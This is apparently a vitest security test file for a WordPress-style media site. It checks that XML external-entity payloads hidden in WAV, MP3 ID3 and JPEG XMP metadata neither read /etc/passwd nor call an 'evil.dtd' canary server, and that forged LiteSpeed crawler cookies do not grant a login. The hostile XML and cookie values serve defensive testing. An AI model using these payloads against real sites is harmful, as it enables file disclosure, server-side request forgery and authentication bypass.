import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { wav } from '../../support/sample-media.ts';
import { type MediaSite, mediaSite } from '../media/media-client.ts';

let site: MediaSite;
let canary: Server;
let hits: string[];
let address: string;
beforeAll(async () => {
  site = await mediaSite({ variant: 'a' });
  hits = [];
  canary = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.end('<!ENTITY leaked "leaked">');
  });
  await new Promise<void>((ready) => canary.listen(0, '127.0.0.1', ready));
  address = `http://127.0.0.1:${(canary.address() as AddressInfo).port}/evil.dtd`;
});
afterAll(async () => {
  await site.close();
  await new Promise((done) => canary.close(done));
});

/** XML that asks its reader to fetch an address and to read a file. */
const hostileXml = () =>
  `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % far SYSTEM "${address}">%far;<!ENTITY file SYSTEM "file:///etc/passwd">]><r>&file;&leaked;</r>`;

function chunk(id: string, data: Buffer): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt32LE(data.length);
  return Buffer.concat([Buffer.from(id), size, data, Buffer.alloc(data.length % 2)]);
}

/** A sound with a chunk of XML behind its samples. */
function soundWithXml(): Buffer {
  const body = Buffer.concat([wav(1).subarray(8), chunk('iXML', Buffer.from(hostileXml()))]);
  return chunk('RIFF', body);
}

/** An ID3 tag with a text that is XML, before a frame of sound. */
function tagWithXml(): Buffer {
  const text = Buffer.concat([Buffer.from([0]), Buffer.from(hostileXml(), 'latin1')]);
  const size = Buffer.alloc(4);
  size.writeUInt32BE(text.length);
  const frame = Buffer.concat([Buffer.from('TXXX'), size, Buffer.alloc(2), text]);
  const whole = Buffer.from([0, 0, (frame.length >> 7) & 127, frame.length & 127]);
  return Buffer.concat([
    Buffer.from('ID3\x03\x00\x00', 'latin1'),
    whole,
    frame,
    Buffer.from('fffb9000', 'hex'),
    Buffer.alloc(413),
  ]);
}

const pictureWithXml = async (): Promise<Buffer> => {
  const picture = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
    .jpeg()
    .toBuffer();
  const data = Buffer.from(`http://ns.adobe.com/xap/1.0/\0${hostileXml()}`);
  const size = Buffer.alloc(2);
  size.writeUInt16BE(data.length + 2);
  return Buffer.concat([picture.subarray(0, 2), Buffer.from([0xff, 0xe1]), size, data, picture.subarray(2)]);
};

describe('XML inside media', () => {
  it.each([
    ['a sound', 'a.wav', 'audio/wav', soundWithXml],
    ['a tag', 'a.mp3', 'audio/mpeg', tagWithXml],
    ['a picture', 'a.jpg', 'image/jpeg', pictureWithXml],
  ] as const)('an entity in the XML of %s fetches and reads nothing', async (_what, name, type, make) => {
    const { status, body } = await site.upload('author', { name, type, content: await make() });
    expect(status).toBe(201);
    expect(JSON.stringify(body)).not.toMatch(/root:|leaked"/);
    expect(hits).toEqual([]);
  });
});

describe('who is asking', () => {
  it.each(['anonymous', 'administrator'] as const)(
    'a number that is no user of this site is unknown to everyone',
    async (who) => {
      for (const id of ['999999', '2147483647']) {
        const answer = await site.as(who).get(`/wp/v2/users/${id}`);
        expect([answer.status, answer.body.code]).toEqual([404, 'rest_user_invalid_id']);
      }
    },
  );

  it('a cookie of a crawler is nobody, also after a crawler was switched', async () => {
    const before = await site.as('administrator').post('/cache/v1/toggle_crawler_state', { crawler_id: 1 });
    expect(before.status).toBe(200);
    for (const value of ['0', '1', 'true', '', 'a'.repeat(32)]) {
      const cookie = `litespeed_hash=${value}; litespeed_role=1; litespeed_flash_hash=${value}; litespeed_hash[]=${value}`;
      const answer = await site.as('anonymous').get('/wp/v2/users/me', { cookie });
      expect([answer.status, answer.body.code]).toEqual([401, 'rest_not_logged_in']);
    }
  });
});
